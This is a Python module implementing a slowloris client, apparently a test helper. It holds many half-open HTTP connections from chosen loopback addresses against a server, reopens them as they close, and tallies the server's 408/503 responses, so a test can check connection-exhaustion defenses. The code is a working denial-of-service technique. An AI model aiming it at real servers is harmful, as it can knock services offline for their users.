"""A slowloris client: half-open connections from chosen loopback addresses, kept up until stopped.

Each connection sends half a request head and then nothing. One thread watches them all:
when the server closes one, its answer's status (``408``, ``503``, or ``""`` for none) is
recorded and, while sustained, a fresh connection takes its place. ``sample`` (optional)
is called on every pass, for a test to watch the server meanwhile.
"""
from __future__ import annotations

import selectors
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable

HALF_HEAD = b"POST /api/submissions HTTP/1.1\r\nHost: zoo\r\nX-Submitter-Id: mallory\r\nContent-Ty"


class SlowLoris(threading.Thread):
    """``per_address`` half-open connections from each of ``addresses`` to ``host:port``."""

    def __init__(self, host: str, port: int, addresses: list[str], per_address: int,
                 sample: Callable[[], None] | None = None, payload: bytes = HALF_HEAD, pace_s: float = 0.2) -> None:
        super().__init__(name="slowloris", daemon=True)
        self.target = (host, port)
        self.addresses = list(addresses)
        self.per_address = per_address
        self.sample = sample
        self.payload = payload
        self.pace_s = pace_s  # at most one round of reconnections per this many seconds
        self.sustain = threading.Event()
        self.sustain.set()
        self.finished = threading.Event()
        self.statuses: Counter[str] = Counter()   # how the server ended each connection
        self.opened = 0
        self.connect_errors = 0
        self._selector = selectors.DefaultSelector()
        self._open: dict[socket.socket, tuple[str, bytearray]] = {}

    def _count(self, address: str) -> int:
        return sum(1 for addr, _buf in self._open.values() if addr == address)

    def _connect(self, address: str) -> None:
        sock = socket.socket()
        try:
            sock.bind((address, 0))
            sock.connect(self.target)
            sock.sendall(self.payload)
        except OSError:
            sock.close()
            self.connect_errors += 1
            return
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ)
        self._open[sock] = (address, bytearray())
        self.opened += 1

    def _read(self, sock: socket.socket) -> None:
        address, buf = self._open[sock]
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            buf.extend(data)
            return
        self._selector.unregister(sock)
        sock.close()
        del self._open[sock]
        first = bytes(buf).split(b"\r\n", 1)[0].split()
        self.statuses[first[1].decode() if len(first) > 1 else ""] += 1

    def run(self) -> None:
        """Open, watch and (while sustained) reopen connections until stopped and all are closed."""
        try:
            next_round = 0.0
            while self.sustain.is_set() or self._open:
                if self.sustain.is_set() and time.monotonic() >= next_round:
                    next_round = time.monotonic() + self.pace_s
                    for address in self.addresses:
                        for _ in range(self.per_address - self._count(address)):
                            self._connect(address)
                for key, _events in self._selector.select(timeout=0.05):
                    self._read(key.fileobj)  # type: ignore[arg-type]
                if self.sample is not None:
                    self.sample()
        finally:
            for sock in list(self._open):
                sock.close()
            self.finished.set()

    def stop(self, timeout: float) -> bool:
        """Stop reopening; True once the server closed every connection left (False after ``timeout`` s).

        On False the client shuts the rest down itself (they are then counted under ``""``).
        """
        self.sustain.clear()
        if self.finished.wait(timeout):
            return True
        for sock in list(self._open):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        self.finished.wait(10)
        return False
